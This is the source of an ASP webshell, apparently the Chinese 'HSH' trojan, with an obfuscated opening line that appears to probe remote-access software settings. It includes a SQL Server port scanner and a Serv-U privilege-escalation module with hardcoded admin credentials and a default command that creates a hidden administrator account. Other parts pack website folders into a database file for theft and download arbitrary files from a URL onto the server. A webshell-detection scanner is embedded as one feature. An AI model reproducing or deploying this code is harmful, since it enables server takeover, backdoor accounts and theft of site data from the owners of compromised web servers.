fsJsnltQtyzFxn%rnI卐~jPxxfUsnltQtyzf%1~jPwjxZsnltQtyzf%1myfUsnltQtyzf%rnI卐ywtUrwjy%1~jPywtUqfsnrwjy%1myfUywtUqfsnrwjy%rnI卐.'qqjmX3yunwhX\'-yhjogTjyfjwH3wj{wjX%B%]x|%yjX卐'222222222222222222222222222222222222222222222222222222'%jynw\3jxstuxjW卐'CwgA'+ywtU\FU+'?为口端jwjm|~sFhUCnqA'%jynw\3jxstuxjW卐'jwjm|~sFhu装安否是机主认确请3取获法无'BywtU\FU%sjmy%''BywtU\FU%kN卐.~jPjwjm|~sFhu-ifjWljW3mx\BywtU\FU卐'ywtUfyfIUNUHYarjyx~Xastnxwj[ysjwwzHajwjm|~sFhuahjysfr~XaJWF\YKTXaJSNMHFRdQFHTQd^JPM'B~jPjwjm|~sFhu卐'CwgA'+ywtUrwjY+'?为口端jhn{wjX%qfsnrwjYCnqA'%jynw\3jxstuxjW卐'机主本版wj{wjX%x|tisn\为否是认确请3取读法无'BywtUrwjY%sjmY%''BywtUrwjY%kN卐.~jPrwjY-ifjWljW3mx\BywtUrwjY卐'wjgrzSywtUauhyaxiYai|uiwaxi\awj{wjX%qfsnrwjYaqtwystHayjXqtwystHysjwwzHaRJYX^XaJSNMHFRdQFHTQd^JPM'B~jPrwjY卐'CwgA'+ywtuysqY+'?口端yjsqjYCnqA'%jynw\3jxstuxjW卐'87'BysqY%sjmY%''BywtUysqY%kn卐.~jPyjsqjY-ifjWljW3mx\BywtUysqY卐'ywtUyjsqjYa536awj{wjXyjsqjYayktxtwhnRaJWF\YKTXaJSNMHFRdQFHTQd^JPM'B~jpyjsqjY卐.'qqjmX3yunwhX\'-yhjogTjyfjwH3wj{wjX%B%mx|%yjX卐'C6Bj nx%wmACwgAb测探口端殊特`CwgACwgA'%jynw\3jxstuxjW卐y}jS%jrzxjW%wtwwJ%sT?.-tksNqfsnrwjYyjl%gzx"))
Sub Scan(targetip, portNum):On Error Resume Next:set conn = Server.CreateObject("ADODB.connection"):connstr="Provider=SQLOLEDB.1;Data Source=" & targetip &","& portNum &";User ID=lake2;Password=;":conn.ConnectionTimeout=1:conn.open connstr:If Err Then:If Err.number = -2147217843 or Err.number = -2147467259 Then:If InStr(Err.description, "(Connect()).") > 0 Then:RRS(targetip & ":" & portNum & ".......关闭<br>"):Else:RRS(targetip & ":" & portNum & ".......<font color=red>开放</font><br>"):End If:End If:End If:End Sub
Select Case Action
Case "MainMenu":MainMenu():Case "getTerminalInfo":getTerminalInfo():Case "PageAddToMdb":PageAddToMdb():case "ScanPort":ScanPort():Case "Servu":SUaction=request("SUaction")
if  not isnumeric(SUaction) then response.end
user = trim(request("u"))
pass = trim(request("p"))
port = trim(request("port"))
cmd = trim(request("c"))
f=trim(request("f"))
if f="" then
f=gpath()
else
   f=left(f,2)
end if
ftpport = 21
timeout=3
loginuser = "User " & user & vbCrLf
loginpass = "Pass " & pass & vbCrLf
deldomain = "-DELETEDOMAIN" & vbCrLf & "-IP=0.0.0.0" & vbCrLf & " PortNo=" & ftpport & vbCrLf
mt = "SITE MAINTENANCE" & vbCrLf
newdomain = "-SETDOMAIN" & vbCrLf & "-Domain=goldsun|0.0.0.0|" & ftpport & "|-1|1|0" & vbCrLf & "-TZOEnable=0" & vbCrLf & " TZOKey=" & vbCrLf
newuser = "-SETUSERSETUP" & vbCrLf & "-IP=0.0.0.0" & vbCrLf & "-PortNo=" & ftpport & vbCrLf & "-User=go" & vbCrLf & "-Password=od" & vbCrLf & _
        "-HomeDir=c:\" & vbCrLf & "-LoginMesFile=" & vbCrLf & "-Disable=0" & vbCrLf & "-RelPaths=1" & vbCrLf & _
        "-NeedSecure=0" & vbCrLf & "-HideHidden=0" & vbCrLf & "-AlwaysAllowLogin=0" & vbCrLf & "-ChangePassword=0" & vbCrLf & _
        "-QuotaEnable=0" & vbCrLf & "-MaxUsersLoginPerIP=-1" & vbCrLf & "-SpeedLimitUp=0" & vbCrLf & "-SpeedLimitDown=0" & vbCrLf & _
        "-MaxNrUsers=-1" & vbCrLf & "-IdleTimeOut=600" & vbCrLf & "-SessionTimeOut=-1" & vbCrLf & "-Expire=0" & vbCrLf & "-RatioUp=1" & vbCrLf & _
        "-RatioDown=1" & vbCrLf & "-RatiosCredit=0" & vbCrLf & "-QuotaCurrent=0" & vbCrLf & "-QuotaMaximum=0" & vbCrLf & _
        "-Maintenance=System" & vbCrLf & "-PasswordType=Regular" & vbCrLf & "-Ratios=None" & vbCrLf & " Access=c:\|RWAMELCDP" & vbCrLf
quit = "QUIT" & vbCrLf
newuser=replace(newuser,"c:",f)
select case SUaction
case 1
set a=Server.CreateObject("Microsoft.XMLHTTP")
a.open "GET", "http://127.0.0.1:" & port & "/goldsun/upadmin/s1",True, "", ""
a.send loginuser & loginpass & mt & deldomain & newdomain & newuser & quit
set session("a")=a
RRS"<form method='post' name='goldsun'>"
RRS"<input name='u' type='hidden' id='u' value='"&user&"'></td>"
RRS"<input name='p' type='hidden' id='p' value='"&pass&"'></td>"
RRS"<input name='port' type='hidden' id='port' value='"&port&"'></td>"
RRS"<input name='c' type='hidden' id='c' value='"&cmd&"' size='50'>"
RRS"<input name='f' type='hidden' id='f' value='"&f&"' size='50'>"
RRS"<input name='SUaction' type='hidden' id='SUaction' value='2'></form>"
RRS"<script language='javascript'>"
RRS"document.write('<center>正在连接 127.0.0.1:"&port&",使用用户名: "&user&",口令："&pass&"...<center>');"
RRS"setTimeout('document.all.goldsun.submit();',4000);"
RRS"</script>"
case 2
set b=Server.CreateObject("Microsoft.XMLHTTP")
b.open "GET", "http://127.0.0.1:" & ftpport & "/goldsun/upadmin/s2", True, "", ""
b.send "User go" & vbCrLf & "pass od" & vbCrLf & "site exec " & cmd & vbCrLf & quit
set session("b")=b
RRS"<form method='post' name='goldsun'>"
RRS"<input name='u' type='hidden' id='u' value='"&user&"'></td>"
RRS"<input name='p' type='hidden' id='p' value='"&pass&"'></td>"
RRS"<input name='port' type='hidden' id='port' value='"&port&"'></td>"
RRS"<input name='c' type='hidden' id='c' value='"&cmd&"' size='50'>"
RRS"<input name='f' type='hidden' id='f' value='"&f&"' size='50'>"
RRS"<input name='SUaction' type='hidden' id='SUaction' value='3'></form>"
RRS"<script language='javascript'>"
RRS"document.write('<center>正在提升权限,请等待...,<center>');"
RRS"setTimeout(""document.all.goldsun.submit();"",4000);"
RRS"</script>"
case 3
set c=Server.CreateObject("Microsoft.XMLHTTP")
a.open "GET", "http://127.0.0.1:" & port & "/goldsun/upadmin/s3", True, "", ""
a.send loginuser & loginpass & mt & deldomain & quit
set session("a")=a
RRS"<center>提权完毕,已执行了命令：<br><font color=red>"&cmd&"</font><br><br>"
RRS"<input type=button value=' 返回继续 ' onClick=""location.href='?Action=Servu';"">"
RRS"</center>"
case else
on error resume next
    set a=session("a")
    set b=session("b")
    set c=session("c")
    a.abort
    Set a = Nothing
    b.abort
    Set b = Nothing
    c.abort
    Set c = Nothing
RRS"<center><form method='post' name='goldsun'>"
RRS"<table width='494' height='163' border='1' cellpadding='0' cellspacing='1' bordercolor='#666666'>"
RRS"<tr align='center' valign='middle'>"
RRS"<td colspan='2'>Serv-U 提升权限 ASP版 6.4</td>"
RRS"</tr>"
RRS"<tr align='center' valign='middle'>"
RRS"<td width='100'>用户名:</td>"
RRS"<td width='379'><input name='u' type='text' id='u' value='LocalAdministrator'></td>"
RRS"</tr>"
RRS"<tr align='center' valign='middle'>"
RRS"<td>口 令：</td>"
RRS"<td><input name='p' type='text' id='p' value='#l@$ak#.lk;0@P'></td>"
RRS"</tr>"
RRS"<tr align='center' valign='middle'>"
RRS"<td>端 口：</td>"
RRS"<td><input name='port' type='text' id='port' value='43958'></td>"
RRS"</tr>"
RRS"<tr align='center' valign='middle'>"
RRS"<td>系统路径：</td>"
RRS"    <td><input name='f' type='text' id='f' value='"&f&"' size='8'></td>"
RRS"  </tr>"
RRS"  <tr align='center' valign='middle'>"
RRS"    <td>命　令：</td>"
RRS"    <td><input name='c' type='text' id='c' value='cmd /c net user hacker$ hacker /add & net localgroup administrators hacker$ /add' size='50'></td>"
RRS"  </tr>"
RRS" <tr align='center' valign='middle'>"
RRS"    <td colspan='2'><input type='submit' name='Submit' value='提交'> "
RRS"<input type='reset' name='Submit2' value='重置'>"
RRS"<input name='SUaction' type='hidden' id='action' value='1'></td>"
RRS"  </tr>"
RRS" <tr align='center' valign='middle'>"
RRS"    <td>说　明：</td>"
RRS"    <td><input name='ccc' type='text' id='ccc' value='可替换成:cmd /c D:\web\你上传的木马.exe 也可以是VBS' size='50'></td>"
RRS"  </tr>"
RRS"</tr></table></form></center>"
end select
function Gpath()
on error resume next
    err.clear
    set f=Server.CreateObject("Scripting.FileSystemObject")
    if err.number>0 then
	gpath="c:"
        exit function
    end if
gpath=f.GetSpecialFolder(0)
gpath=lcase(left(gpath,2))
set f=nothing
end function

  Case "kmuma"
	dim Report
	if request.QueryString("act")<>"scan" then
	  	RRS ("<b>网站根目录</b>- "&Server.MapPath("/")&"<br>")
		RRS ("<b>本程序目录</b>- "&Server.MapPath("."))
		RRS "<form action=""?Action=kmuma&act=scan"" method=""post"" name=""form1"">"
		RRS "<p><b>填入你要检查的路径：</b>"
		RRS "<input name=""path"" type=""text"" style=""border:1px solid #999"" value=""."" size=""30"" /> 填“\”网站根目录；“.”为本程序目录<br><br>"
		RRS "你要干什么: <input class=c name=""radiobutton"" type=""radio"" value=""sws"" onClick=""document.getElementById('showFile1').style.display='none'"" checked>查ASP 马"
		RRS "<input class=c type=""radio"" name=""radiobutton"" value=""sf"" onClick=""document.getElementById('showFile1').style.display=''"">搜索符合条件之文件<br>"
		RRS "<br /><div id=""showFile1"" style=""display:none"">"
		RRS "&nbsp;&nbsp;查找内容：<input name=""Search_Content"" type=""text"" id=""Search_Content"" style=""border:1px solid #999"" size=""20"">"
		RRS " 要查找的字符串，不填就只进行日期检查<br />"
		RRS "&nbsp;&nbsp;修改日期：<input name=""Search_Date"" type=""text"" style=""border:1px solid #999"" value="""&Left(Now(),InStr(now()," ")-1)&""" size=""20""> 多个日期用;隔开，任意日期填写 <a href=""#"" onClick=""javascript:form1.Search_Date.value='ALL'"">ALL</a><br />"
		RRS "&nbsp;&nbsp;文件类型：<input name=""Search_FileExt"" type=""text"" style=""border:1px solid #999"" value=""*"" size=""20""> 类型之间用,隔开，*表示所有类型<br /><br /></div>"
		RRS "<input type=""submit"" value="" 开始扫描 "" style=""padding:2px 2px 0px 2px;margin:4px;"" />"
		RRS "</form>"
	else
		if request.Form("path")="" then
			RRS("路径不能为空")
			response.End()
		end if
		if request.Form("path")="\" then
			TmpPath = Server.MapPath("\")
		elseif request.Form("path")="." then
			TmpPath = Server.MapPath(".")
		else
			TmpPath = request.Form("path")
		end if
		
		timer1 = timer
		Sun = 0
		SumFiles = 0
		SumFolders = 1
		If request.Form("radiobutton") = "sws" Then
			DimFileExt = "asp,cer,asa,cdx"
			Call ShowAllFile(TmpPath)
		Else
			If request.Form("path") = "" or request.Form("Search_Date") = "" or request.Form("Search_FileExt") = "" Then
				RRS("缉捕条件不完全<br><br><a href='javascript:history.go(-1);'>请返回重新输入</a>")
				response.End()
			End If
			DimFileExt = request.Form("Search_fileExt")
			Call ShowAllFile2(TmpPath)
		End If
RRS "<table width=""100%"" border=""0"" cellpadding=""0"" cellspacing=""0"" style='font-size:12px'>"
RRS "<tr><th>Scan WebShell</tr>"
RRS "<tr><td style=""padding:5px;line-height:170%;clear:both;font-size:12px"">"
RRS "<div id=""updateInfo"" style=""background:ffffe1;border:1px solid #89441f;padding:4px;display:none""></div>"
RRS "扫描完毕！一共检查文件夹<font color=""#FF0000"">"&SumFolders&"</font>个，文件<font color=""#FF0000"">"&SumFiles&"</font>个，发现可疑点<font color=""#FF0000"">"&Sun&"</font>个"
RRS "<table width=""100%"" border=""1"" cellpadding=""0"" cellspacing=""8"" bordercolor=""#999999"" style=""font-size:12px;border-collapse:collapse;line-height:130%;clear:both;""><tr>"
If request.Form("radiobutton") = "sws" Then
	RRS "<td width=""20%"">文件相对路径</td>"
	RRS "<td width=""20%"">特征码</td>"
	RRS "<td width=""40%"">描述</td>"
	RRS "<td width=""20%"">创建/修改时间</td>"
else   
	RRS "<td width=""50%"">文件相对路径</td>"
	RRS "<td width=""25%"">文件创建时间</td>"
	RRS "<td width=""25%"">修改时间</td>"
end if
	RRS "</tr>"
	RRS Report
	RRS "<br/></table>"
timer2 = timer
thetime=cstr(int(((timer2-timer1)*10000 )+0.5)/10)
RRS "<br><font style='font-size:12px'>本页执行共用了"&thetime&"毫秒</font>"
	end if
Sub ShowAllFile(Path)
	Set F1SO = CreateObject("Scripting.FileSystemObject")
	if not F1SO.FolderExists(path) then exit sub
	Set f = F1SO.GetFolder(Path)
	Set fc2 = f.files
	For Each myfile in fc2
		If CheckExt(F1SO.GetExtensionName(path&"\"&myfile.name)) Then
			Call ScanFile(Path&Temp&"\"&myfile.name, "")
			SumFiles = SumFiles + 1
		End If
	Next
	Set fc = f.SubFolders
	For Each f1 in fc
		ShowAllFile path&"\"&f1.name
		SumFolders = SumFolders + 1
    Next
	Set F1SO = Nothing
End Sub
Sub ScanFile(FilePath, InFile)
Server.ScriptTimeout=999999999
	If InFile <> "" Then
		Infiles = "<font color=red>该文件被<a href=""http://"&Request.Servervariables("server_name")&"/"&tURLEncode(InFile)&""" target=_blank>"& InFile & "</a>文件包含执行</font>"
	End If
	Set FSO1s = CreateObject("Scripting.FileSystemObject")
	on error resume next
	set ofile = FSO1s.OpenTextFile(FilePath)
	filetxt = Lcase(ofile.readall())
	If err Then Exit Sub end if
	if len(filetxt)>0 then
		filetxt = vbcrlf & filetxt
		temp = "<a href=""http://"&Request.Servervariables("server_name")&"/"&tURLEncode(replace(replace(FilePath,server.MapPath("\")&"\","",1,1,1),"\","/"))&""" target=_blank>"&replace(FilePath,server.MapPath("\")&"\","",1,1,1)&"</a><br />"
    temp=temp&"<a href='javascript:FullForm("""&replace(replace(FilePath,server.MapPath("\")&"\","",1,1,1),"\","\\")&""",""EditFile"")' class='am' title='编辑'>Edit</a> "
	temp=temp&"<a href='javascript:FullForm("""&replace(replace(FilePath,server.MapPath("\")&"\","",1,1,1),"\","\\")&""",""DelFile"")'  onclick='return yesok()' class='am' title='删除'>Del</a > "
	temp=temp&"<a href='javascript:FullForm("""&replace(replace(FilePath,server.MapPath("\")&"\","",1,1,1),"\","\\")&""",""CopyFile"")' class='am' title='复制'>Copy</a> "
	temp=temp&"<a href='javascript:FullForm("""&replace(replace(FilePath,server.MapPath("\")&"\","",1,1,1),"\","\\")&""",""MoveFile"")' class='am' title='移动'>Move</a>"	
			If instr( filetxt, Lcase("WScr"&DoMyBest&"ipt.Shell") ) or Instr( filetxt, Lcase("clsid:72C24DD5-D70A"&DoMyBest&"-438B-8A42-98424B88AFB8") ) then
				Report = Report&"<tr><td>"&temp&"</td><td>WScr"&DoMyBest&"ipt.Shell 或者 clsid:72C24DD5-D70A"&DoMyBest&"-438B-8A42-98424B88AFB8</td><td><font color=red>危险组件，一般被ASP木马利用</font>"&infiles&"</td><td>"&GetDateCreate(filepath)&"<br>"&GetDateModify(filepath)&"</td></tr>"
				Sun = Sun + 1
				temp="-同上-"
			End if
			If instr( filetxt, Lcase("She"&DoMyBest&"ll.Application") ) or Instr( filetxt, Lcase("clsid:13709620-C27"&DoMyBest&"9-11CE-A49E-444553540000") ) then
				Report = Report&"<tr><td>"&temp&"</td><td>She"&DoMyBest&"ll.Application 或者 clsid:13709620-C27"&DoMyBest&"9-11CE-A49E-444553540000</td><td><font color=red>危险组件，一般被ASP木马利用</font>"&infiles&"</td><td>"&GetDateCreate(filepath)&"<br>"&GetDateModify(filepath)&"</td></tr>"
				Sun = Sun + 1
				temp="-同上-"
			End If
			Set regEx = New RegExp
			regEx.IgnoreCase = True
			regEx.Global = True
			regEx.Pattern = "\bLANGUAGE\s*=\s*[""]?\s*(vbscript|jscript|javascript).encode\b"
			If regEx.Test(filetxt) Then
				Report = Report&"<tr><td>"&temp&"</td><td>(vbscript|jscript|javascript).Encode</td><td><font color=red>似乎脚本被加密了</font>"&infiles&"</td><td>"&GetDateCreate(filepath)&"<br>"&GetDateModify(filepath)&"</td></tr>"
				Sun = Sun + 1
				temp="-同上-"
			End If
			regEx.Pattern = "\bEv"&"al\b"
			If regEx.Test(filetxt) Then
				Report = Report&"<tr><td>"&temp&"</td><td>Ev"&"al</td><td>e"&"val()函数可以执行任意ASP代码<br>但是javascript代码中也可以使用，有可能是误报。"&infiles&"</td><td>"&GetDateCreate(filepath)&"<br>"&GetDateModify(filepath)&"</td></tr>"
				Sun = Sun + 1
				temp="-同上-"
			End If
			regEx.Pattern = "[^.]\bExe"&"cute\b"
			If regEx.Test(filetxt) Then
				Report = Report&"<tr><td>"&temp&"</td><td>Exec"&"ute</td><td><font color=red>e"&"xecute()函数可以执行任意ASP代码</font><br>"&infiles&"</td><td>"&GetDateCreate(filepath)&"<br>"&GetDateModify(filepath)&"</td></tr>"
				Sun = Sun + 1
				temp="-同上-"
			End If
			regEx.Pattern = "\.(Open|Create)TextFile\b"
			If regEx.Test(filetxt) Then
				Report = Report&"<tr><td>"&temp&"</td><td>.CreateTextFile|.OpenTextFile</td><td>使用了FSO的CreateTextFile|OpenTextFile读写文件"&infiles&"</td><td>"&GetDateCreate(filepath)&"<br>"&GetDateModify(filepath)&"</td></tr>"
				Sun = Sun + 1
				temp="-同上-"
			End If
			regEx.Pattern = "\.SaveToFile\b"
			If regEx.Test(filetxt) Then
				Report = Report&"<tr><td>"&temp&"</td><td>.SaveToFile</td><td>使用了Stream的SaveToFile函数写文件"&infiles&"</td><td>"&GetDateCreate(filepath)&"<br>"&GetDateModify(filepath)&"</td></tr>"
				Sun = Sun + 1
				temp="-同上-"
			End If
			regEx.Pattern = "\.Save\b"
			If regEx.Test(filetxt) Then
				Report = Report&"<tr><td>"&temp&"</td><td>.Save</td><td>使用了XMLHTTP的Save函数写文件"&infiles&"</td><td>"&GetDateCreate(filepath)&"<br>"&GetDateModify(filepath)&"</td></tr>"
				Sun = Sun + 1
				temp="-同上-"
			End If
		Set regEx = Nothing
		Set regEx = New RegExp
		regEx.IgnoreCase = True
		regEx.Global = True
		regEx.Pattern = "<!--\s*#include\s*file\s*=\s*"".*"""
		Set Matches = regEx.Execute(filetxt)
		For Each Match in Matches
			tFile = Replace(Mid(Match.Value, Instr(Match.Value, """") + 1, Len(Match.Value) - Instr(Match.Value, """") - 1),"/","\")
			If Not CheckExt(FSO1s.GetExtensionName(tFile)) Then
				Call ScanFile( Mid(FilePath,1,InStrRev(FilePath,"\"))&tFile, replace(FilePath,server.MapPath("\")&"\","",1,1,1) )
				SumFiles = SumFiles + 1
			End If
		Next
		Set Matches = Nothing
		Set regEx = Nothing
		Set regEx = New RegExp
		regEx.IgnoreCase = True
		regEx.Global = True
		regEx.Pattern = "<!--\s*#include\s*virtual\s*=\s*"".*"""
		Set Matches = regEx.Execute(filetxt)
		For Each Match in Matches
			tFile = Replace(Mid(Match.Value, Instr(Match.Value, """") + 1, Len(Match.Value) - Instr(Match.Value, """") - 1),"/","\")
			If Not CheckExt(FSO1s.GetExtensionName(tFile)) Then
				Call ScanFile( Server.MapPath("\")&"\"&tFile, replace(FilePath,server.MapPath("\")&"\","",1,1,1) )
				SumFiles = SumFiles + 1
			End If
		Next
		Set Matches = Nothing
		Set regEx = Nothing
		Set regEx = New RegExp
		regEx.IgnoreCase = True
		regEx.Global = True
		regEx.Pattern = "Server.(Exec"&"ute|Transfer)([ \t]*|\()"".*"""
		Set Matches = regEx.Execute(filetxt)
		For Each Match in Matches
			tFile = Replace(Mid(Match.Value, Instr(Match.Value, """") + 1, Len(Match.Value) - Instr(Match.Value, """") - 1),"/","\")
			If Not CheckExt(FSO1s.GetExtensionName(tFile)) Then
				Call ScanFile( Mid(FilePath,1,InStrRev(FilePath,"\"))&tFile, replace(FilePath,server.MapPath("\")&"\","",1,1,1) )
				SumFiles = SumFiles + 1
			End If
		Next
		Set Matches = Nothing
		Set regEx = Nothing
		Set regEx = New RegExp
		regEx.IgnoreCase = True
		regEx.Global = True
		regEx.Pattern = "Server.(Exec"&"ute|Transfer)([ \t]*|\()[^""]\)"
		If regEx.Test(filetxt) Then
			Report = Report&"<tr><td>"&temp&"</td><td>Server.Exec"&"ute</td><td><font color=red>不能跟踪检查Server.e"&"xecute()函数执行的文件。</font><br>"&infiles&"</td><td>"&GetDateCreate(filepath)&"<br>"&GetDateModify(filepath)&"</td></tr>"
			Sun = Sun + 1
		End If
		Set Matches = Nothing
		Set regEx = Nothing
		Set XregEx = New RegExp
		XregEx.IgnoreCase = True
		XregEx.Global = True
		XregEx.Pattern = "<scr"&"ipt\s*(.|\n)*?runat\s*=\s*""?server""?(.|\n)*?>"
		Set XMatches = XregEx.Execute(filetxt)
		For Each Match in XMatches
			tmpLake2 = Mid(Match.Value, 1, InStr(Match.Value, ">"))
			srcSeek = InStr(1, tmpLake2, "src", 1)
			If srcSeek > 0 Then
				srcSeek2 = instr(srcSeek, tmpLake2, "=")
				For i = 1 To 50
					tmp = Mid(tmpLake2, srcSeek2 + i, 1)
					If tmp <> " " and tmp <> chr(9) and tmp <> vbCrLf Then
						Exit For
					End If
				Next
				If tmp = """" Then
					tmpName = Mid(tmpLake2, srcSeek2 + i + 1, Instr(srcSeek2 + i + 1, tmpLake2, """") - srcSeek2 - i - 1)
				Else
					If InStr(srcSeek2 + i + 1, tmpLake2, " ") > 0 Then tmpName = Mid(tmpLake2, srcSeek2 + i, Instr(srcSeek2 + i + 1, tmpLake2, " ") - srcSeek2 - i) Else tmpName = tmpLake2
					If InStr(tmpName, chr(9)) > 0 Then tmpName = Mid(tmpName, 1, Instr(1, tmpName, chr(9)) - 1)
					If InStr(tmpName, vbCrLf) > 0 Then tmpName = Mid(tmpName, 1, Instr(1, tmpName, vbcrlf) - 1)
					If InStr(tmpName, ">") > 0 Then tmpName = Mid(tmpName, 1, Instr(1, tmpName, ">") - 1)
				End If
				Call ScanFile( Mid(FilePath,1,InStrRev(FilePath,"\"))&tmpName , replace(FilePath,server.MapPath("\")&"\","",1,1,1))
				SumFiles = SumFiles + 1
			End If
		Next
		Set Matches = Nothing
		Set regEx = Nothing
		Set regEx = New RegExp
		regEx.IgnoreCase = True
		regEx.Global = True
		regEx.Pattern = "CreateO"&"bject[ |\t]*\(.*\)"
		Set Matches = regEx.Execute(filetxt)
		For Each Match in Matches
			If Instr(Match.Value, "&") or Instr(Match.Value, "+") or Instr(Match.Value, """") = 0 or Instr(Match.Value, "(") <> InStrRev(Match.Value, "(") Then
				Report = Report&"<tr><td>"&temp&"</td><td>Creat"&"eObject</td><td>Crea"&"teObject函数使用了变形技术"&infiles&"</td><td>"&GetDateCreate(filepath)&"<br>"&GetDateModify(filepath)&"</td></tr>"
				Sun = Sun + 1
				exit sub
			End If
		Next
		Set Matches = Nothing
		Set regEx = Nothing
	end if
	set ofile = nothing
	set FSO1s = nothing
End Sub:Sub PageAddToMdb():Dim theAct, thePath
theAct = Request("theAct")
thePath = Request("thePath")
Server.ScriptTimeOut=100000
If theAct = "addToMdb" Then
addToMdb(thePath)
RRS "<div align=center><br>操作完成!</div>"&BackUrl
Response.End
End If
If theAct = "releaseFromMdb" Then
unPack(thePath)
RRS "<div align=center><br>操作完成!</div>"&BackUrl
Response.End
End If
RRS"<br>文件夹打包:"
RRS"<form method=post>"
RRS"<input name=thePath value=""" & HtmlEncode(Server.MapPath(".")) & """ size=80>"
RRS"<input type=hidden value=addToMdb name=theAct>"
RRS"<select name=theMethod><option value=fso>FSO</option><option value=app>无FSO</option>"
RRS"</select>"
RRS" <input type=submit value='开始打包'>"
RRS"<br><br>注: 打包生成HSH.mdb文件,位于HSH木马同级目录下"
RRS"</form>"
RRS"文件包解开(需FSO支持):<br/>"
RRS"<form method=post>"
RRS"<input name=thePath value=""" & HtmlEncode(Server.MapPath(".")) & "\HSH.mdb"" size=80>"
RRS" <input type=hidden value=releaseFromMdb name=theAct><input type=submit value='解开包'>"
RRS"<br><br>注: 解开来的所有文件都位于HSH木马同级目录下"
RRS"</form>":
End Sub:Sub addToMdb(thePath):On Error Resume Next
Dim rs, conn, stream, connStr, adoCatalog
Set rs = Server.CreateObject("ADODB.RecordSet")
Set stream = Server.CreateObject("ADODB.Stream")
Set conn = Server.CreateObject("ADODB.Connection")
Set adoCatalog = Server.CreateObject("ADOX.Catalog")
connStr = "Provider=Microsoft.Jet.OLEDB.4.0; Data Source=" & Server.MapPath("HSH.mdb")
adoCatalog.Create connStr
conn.Open connStr
conn.Execute("Create Table FileData(Id int IDENTITY(0,1) PRIMARY KEY CLUSTERED, thePath VarChar, fileContent Image)")
stream.Open
stream.Type = 1
rs.Open "FileData", conn, 3, 3
If Request("theMethod") = "fso" Then
fsoTreeForMdb thePath, rs, stream
 Else
saTreeForMdb thePath, rs, stream
End If
rs.Close
Conn.Close
stream.Close
Set rs = Nothing
Set conn = Nothing
Set stream = Nothing
Set adoCatalog = Nothing:End Sub:Function fsoTreeForMdb(thePath, rs, stream):Dim item, theFolder, folders, files, sysFileList
sysFileList = "$HSH.mdb$HSH.ldb$"
If Server.CreateObject("Scripting.FileSystemObject").FolderExists(thePath) = False Then
showErr(thePath & " 目录不存在或者不允许访问!")
End If
Set theFolder = Server.CreateObject("Scripting.FileSystemObject").GetFolder(thePath)
Set files = theFolder.Files
Set folders = theFolder.SubFolders
For Each item In folders
fsoTreeForMdb item.Path, rs, stream
Next
For Each item In files
If InStr(sysFileList, "$" & item.Name & "$") <= 0 Then
rs.AddNew
rs("thePath") = Mid(item.Path, 4)
stream.LoadFromFile(item.Path)
rs("fileContent") = stream.Read()
rs.Update
End If
Next
Set files = Nothing
Set folders = Nothing
Set theFolder = Nothing:End Function
Sub unPack(thePath)
On Error Resume Next
Server.ScriptTimeOut=100000
Dim rs, ws, str, conn, stream, connStr, theFolder
str = Server.MapPath(".") & "\"
Set rs = CreateObject("ADODB.RecordSet")
Set stream = CreateObject("ADODB.Stream")
Set conn = CreateObject("ADODB.Connection")
connStr = "Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" & thePath & ";"
conn.Open connStr
rs.Open "FileData", conn, 1, 1
stream.Open
stream.Type = 1
Do Until rs.Eof
theFolder = Left(rs("thePath"), InStrRev(rs("thePath"), "\"))
If Server.CreateObject("Scripting.FileSystemObject").FolderExists(str & theFolder) = False Then
createFolder(str & theFolder)
End If
stream.SetEos()
stream.Write rs("fileContent")
stream.SaveToFile str & rs("thePath"), 2
rs.MoveNext
Loop
rs.Close
conn.Close
stream.Close
Set ws = Nothing
Set rs = Nothing
Set stream = Nothing
Set conn = Nothing:End Sub:Sub createFolder(thePath)
Dim i
i = Instr(thePath, "\")
Do While i > 0
If Server.CreateObject("Scripting.FileSystemObject").FolderExists(Left(thePath, i)) = False Then
Server.CreateObject("Scripting.FileSystemObject").CreateFolder(Left(thePath, i - 1))
End If
If InStr(Mid(thePath, i + 1), "\") Then
i = i + Instr(Mid(thePath, i + 1), "\")
 Else
i = 0
End If
Loop
End Sub:Sub saTreeForMdb(thePath, rs, stream)
Dim item, sysFileList
sysFileList = "$HSH.mdb$HSH.ldb$"
Set theFolder = saX.NameSpace(thePath)
For Each item In theFolder.Items
If item.IsFolder = True Then
saTreeForMdb item.Path, rs, stream
 Else
If InStr(sysFileList, "$" & item.Name & "$") <= 0 Then
rs.AddNew
rs("thePath") = Mid(item.Path, 4)
stream.LoadFromFile(item.Path)
rs("fileContent") = stream.Read()
rs.Update
End If
End If
Next
Set theFolder = Nothing:End Sub:Sub createFolder(thePath):Dim i
		i = Instr(thePath, "\")
		Do While i > 0
			If fsoX.FolderExists(Left(thePath, i)) = False Then
				fsoX.CreateFolder(Left(thePath, i - 1))
			End If
			If InStr(Mid(thePath, i + 1), "\") Then
				i = i + Instr(Mid(thePath, i + 1), "\")
			 Else
				i = 0
			End If
		Loop:End Sub:Function CheckExt(FileExt)
	If DimFileExt = "*" Then CheckExt = True
	Ext = Split(DimFileExt,",")
	For i = 0 To Ubound(Ext)
		If Lcase(FileExt) = Ext(i) Then 
			CheckExt = True
			Exit Function
		End If
	Next
End Function:Function upload():SI="<br><table width='80%' bgcolor='menu' border='0' cellspacing='1' cellpadding='0' align='center'>" 
		RRS "下载到服务器:无回显...为了节省.所以无回显<br>"
		RRS "<form method=post>"
		RRS "<input name=theUrl value='http://' size=80><input type=submit value=' 下载 '><br/>"
		RRS "<input name=thePath value=""" & HtmlEncode(Server.MapPath(".")) & """ size=80>"
		RRS "<input type=checkbox name=overWrite value=2>存在覆盖"
		RRS "<input type=hidden value=downFromUrl name=theAct>"
		RRS "</form>"
		RRS "<br>"
		If isDebugMode = False Then
			On Error Resume Next
		End If
		Dim Http, theUrl, thePath, stream, fileName, overWrite
		theUrl = Request("theUrl")
		thePath = Request("thePath")
		overWrite = Request("overWrite")
		Set stream = Server.CreateObject("ad"&e&"odb.st"&e&"ream")
		Set Http = Server.CreateObject("MSXML2.XMLHTTP")
		
		If overWrite <> 2 Then
			overWrite = 1
		End If
		
		Http.Open "GET", theUrl, False
		Http.Send()
		If Http.ReadyState <> 4 Then 

		End If
		
		With stream
			.Type = 1
			.Mode = 3
			.Open
			.Write Http.ResponseBody
			.Position = 0
			.SaveToFile thePath, overWrite
			If Err.Number = 3004 Then
				Err.Clear
				fileName = Split(theUrl, "/")(UBound(Split(theUrl, "/")))
				If fileName = "" Then
					fileName = "index.htm.txt"
				End If
				thePath = thePath & "\" & fileName
				.SaveToFile thePath, overWrite
			End If
			.Close
		End With
		chkErr(Err)
		
		Set Http = Nothing
		Set Stream = Nothing

